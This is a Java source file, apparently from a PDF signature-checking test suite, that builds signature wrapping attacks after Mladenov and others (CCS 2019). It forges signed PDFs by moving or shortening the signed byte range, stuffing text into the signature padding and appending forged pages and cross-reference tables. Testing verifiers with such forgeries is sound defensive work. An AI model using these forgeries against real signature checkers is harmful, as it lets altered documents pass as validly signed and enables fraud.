package vn.certproc.checks.attacks;

import static vn.certproc.checks.attacks.AttackFamily.WRAPPING;

import java.io.ByteArrayOutputStream;
import java.util.List;
import java.util.function.Function;

/** What is signed stays in the file, and something else is read. */
final class Wrapping {

  private static final String SOURCE =
      "Mladenov and others: 1 Trillion Dollar Refund. ACM CCS 2019, section 4.3, signature wrapping"
          + " attack";

  private Wrapping() {}

  static List<Attack> all() {
    return List.of(
        Entry.of("moved-range", WRAPPING, SOURCE, file -> moved(file, true)),
        Entry.of("moved-range-without-padding", WRAPPING, SOURCE, file -> moved(file, false)),
        gap("entries-in-padding", gap -> "<" + gap.digits() + "> /ByteRange [0 1 1 1]"),
        gap("contents-again-in-padding", gap -> "<" + gap.digits() + "> /Contents <00>"),
        gap("comment-in-padding", gap -> "<" + gap.digits() + "> % anything"),
        gap("objects-in-padding", gap -> "<" + gap.digits() + "> >> endobj 1 0 obj <<"),
        gap("shorter-contents", gap -> "<" + gap.digits() + ">"),
        gap("space-in-contents", Wrapping::space),
        gap("digits-in-two-cases", Wrapping::cases),
        gap("bytes-behind-the-signature", gap -> bytesBehind(gap)),
        Entry.of("range-shortened", WRAPPING, SOURCE, Wrapping::shortened));
  }

  private static Attack gap(String id, Function<Gap, String> text) {
    return Entry.of(
        id,
        WRAPPING,
        SOURCE,
        file ->
            Entry.read(
                file,
                victim -> {
                  Gap gap = Gap.of(victim);
                  return gap.filled(text.apply(gap));
                }));
  }

  private static String space(Gap gap) {
    return gap.text().substring(0, gap.text().length() - 3) + "\n\n>";
  }

  private static String cases(Gap gap) {
    String text = gap.text();
    StringBuilder out = new StringBuilder(text);
    for (int i = 1; i < text.length(); i++) {
      char c = text.charAt(i);
      char other = Character.isLowerCase(c) ? Character.toUpperCase(c) : Character.toLowerCase(c);
      if (other != c) {
        out.setCharAt(i, other);
        return out.toString();
      }
    }
    throw new IllegalArgumentException("no letter in the signature");
  }

  private static String bytesBehind(Gap gap) {
    return gap.text().substring(0, gap.text().length() - 5) + "4142>";
  }

  /**
   * The second range goes to the end, and what the attacker wants stands in the room that the
   * signature left. The byte range is written a second time, behind the contents. With padding, the
   * attacker's table stands just where the last line says; without, another last line is added.
   */
  private static byte[] moved(byte[] file, boolean padding) {
    return Entry.read(
        file,
        victim -> {
          Gap gap = Gap.of(victim);
          int table = Update.startxref(file);
          Update forged = Update.of(victim);
          Graffiti.page(victim, forged);
          byte[] objects = forged.unclosed();
          ByteArrayOutputStream out = new ByteArrayOutputStream();
          out.write(file, 0, gap.from());
          int moved = Math.max(table, gap.to()) + objects.length;
          String range =
              String.format("/ByteRange [0 %d %d %d]", gap.from(), moved, gap.end() - gap.to());
          out.writeBytes(CosText.bytes("<" + gap.digits() + ">" + range + ">>\nendobj\n"));
          int shift = out.size() - file.length;
          out.write(objects, file.length, objects.length - file.length);
          if (padding) {
            pad(out, table);
          }
          int there = out.size();
          forged.shift(shift).trailer("Prev", Long.toString(victim.previous()));
          victim
              .offsets()
              .forEach(
                  (number, offset) -> {
                    if (offset > victim.previous() && !forged.names(number)) {
                      forged.entry(number, offset < gap.to() ? offset : offset + moved - gap.to());
                    }
                  });
          out.writeBytes(CosText.bytes(forged.table(there)));
          pad(out, moved);
          out.write(file, gap.to(), gap.end() - gap.to());
          if (!padding) {
            out.writeBytes(CosText.bytes("startxref\n" + there + "\n%%EOF\n"));
          }
          return out.toByteArray();
        });
  }

  private static void pad(ByteArrayOutputStream out, int to) {
    while (out.size() < to) {
      out.write(' ');
    }
  }

  /** The signature covers less than it did, and the rest is changed. */
  private static byte[] shortened(byte[] file) {
    return Entry.appended(
        file,
        (victim, update) -> {
          Gap gap = Gap.of(victim);
          String range = "/ByteRange [0 " + gap.from() + " " + gap.to() + " 1]";
          SignatureText text = SignatureText.of(victim.signature()).byteRange(range);
          update.object(Victim.number(victim.signature()), text.toString());
          Graffiti.page(victim, update);
        });
  }
}
